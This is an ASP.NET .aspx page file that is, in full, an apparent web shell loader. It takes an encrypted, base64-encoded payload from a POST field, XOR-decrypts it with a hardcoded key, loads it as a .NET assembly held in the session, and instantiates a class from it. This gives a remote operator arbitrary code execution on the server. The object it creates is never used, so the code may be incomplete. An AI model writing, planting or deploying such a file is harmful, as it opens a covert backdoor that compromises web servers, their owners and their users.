<%@ Page Language="C#" EnableSessionState="true" %>
<script runat="server">
byte[] X(byte[] d, byte[] k) { for (int i = 0; i < d.Length; i++) { d[i] = (byte)(d[i] ^ k[i + 1 & 15]); } return d; }
void Page_Load(object s, EventArgs e) {
  byte[] key = System.Text.Encoding.Default.GetBytes("3c6e0b8a9c15224a");
  byte[] d = X(Convert.FromBase64String(Request.Form["pass"]), key);
  if (Session["m"] == null) { Session["m"] = System.Reflection.Assembly.Load(d); return; }
  object o = ((System.Reflection.Assembly)Session["m"]).CreateInstance("LY");
}
</script>
